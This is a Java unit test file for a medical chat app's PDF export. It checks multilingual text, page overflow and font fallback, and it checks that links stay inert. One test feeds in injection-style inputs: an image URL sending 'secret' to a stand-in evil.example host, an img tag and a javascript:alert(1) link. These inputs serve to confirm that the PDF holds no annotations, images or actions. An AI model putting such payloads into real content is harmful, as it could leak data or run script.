package dev.medmentor.adapters.pdf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.medmentor.adapters.pdf.export.ConversationPdf;
import dev.medmentor.conversation.ExportedConversation;
import dev.medmentor.conversation.model.Channel;
import dev.medmentor.conversation.model.Conversation;
import dev.medmentor.conversation.model.ConversationId;
import dev.medmentor.conversation.model.Message;
import dev.medmentor.conversation.model.MessageId;
import dev.medmentor.identity.model.AccountId;
import dev.medmentor.retrieval.model.PassageFilter;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

class ConversationPdfTest {
    private static final Instant NOW = Instant.parse("2026-11-21T12:00:00Z");
    private static final AccountId ANA = new AccountId("ana");

    private static ExportedConversation conversation(String... texts) {
        Conversation conversation = new Conversation(
                new ConversationId("c"),
                ANA,
                Optional.empty(),
                Channel.WEB,
                "Liều dùng",
                PassageFilter.ALL,
                Optional.empty(),
                Optional.empty(),
                NOW,
                NOW,
                1);
        List<Message> messages = java.util.stream.IntStream.range(0, texts.length)
                .mapToObj(i -> new Message(
                        new MessageId("m" + i),
                        conversation.id(),
                        ANA,
                        Optional.empty(),
                        Message.Role.USER,
                        texts[i],
                        Message.State.COMPLETE,
                        Optional.empty(),
                        Optional.empty(),
                        NOW,
                        Optional.of(NOW)))
                .toList();
        return new ExportedConversation(conversation, Optional.empty(), messages, messages);
    }

    private static String read(ExportedConversation exported) throws IOException {
        try (PDDocument document = Loader.loadPDF(new ConversationPdf().pdf(exported))) {
            assertThat(document.getPage(0).getAnnotations()).isEmpty();
            return new PDFTextStripper().getText(document).replaceAll("\\s+", " ");
        }
    }

    @Test
    void textShouldStandInThePdfInEveryLanguage() throws IOException {
        String text = read(
                conversation("Trẻ em nên dùng liều nào?", "Qual é a dose para crianças? [x](http://evil.example)"));

        assertThat(text)
                .contains(
                        "Liều dùng",
                        "Trẻ em nên dùng liều nào?",
                        "Qual é a dose para crianças?",
                        "2026-11-21T12:00:00Z");
    }

    @Test
    @Tag("case-33")
    void whatATextLinksToOrShowsShouldBeWordsAlone() throws IOException {
        byte[] pdf = new ConversationPdf()
                .pdf(conversation("![p](http://evil.example/p.png?q=secret) [x][r] <img src='http://evil.example/i'>\n"
                        + "[r]: javascript:alert(1)\nhttp://evil.example/bare"));

        try (PDDocument document = Loader.loadPDF(pdf)) {
            assertThat(document.getDocumentCatalog().getOpenAction()).isNull();
            assertThat(document.getPages()).allSatisfy(page -> {
                assertThat(page.getAnnotations()).isEmpty();
                assertThat(page.getResources().getXObjectNames()).isEmpty();
            });
            assertThat(new PDFTextStripper().getText(document)).contains("javascript:alert(1)");
        }
    }

    @Test
    void longTextShouldRunOverPagesWithNoWordLost() throws IOException {
        String words = "word ".repeat(600).strip();
        String one = "x".repeat(500);

        String text = read(conversation(words, words, words, words, words, one));

        assertThat(text.split("word", -1)).hasSize(3_001);
        assertThat(text.replace(" ", "")).contains(one);
    }

    @Test
    void characterThatTheFontHasNotShouldBeAQuestionMark() throws IOException {
        assertThat(read(conversation("a\uD83D\uDE00b\u0000c"))).contains("a?bc");
    }
}
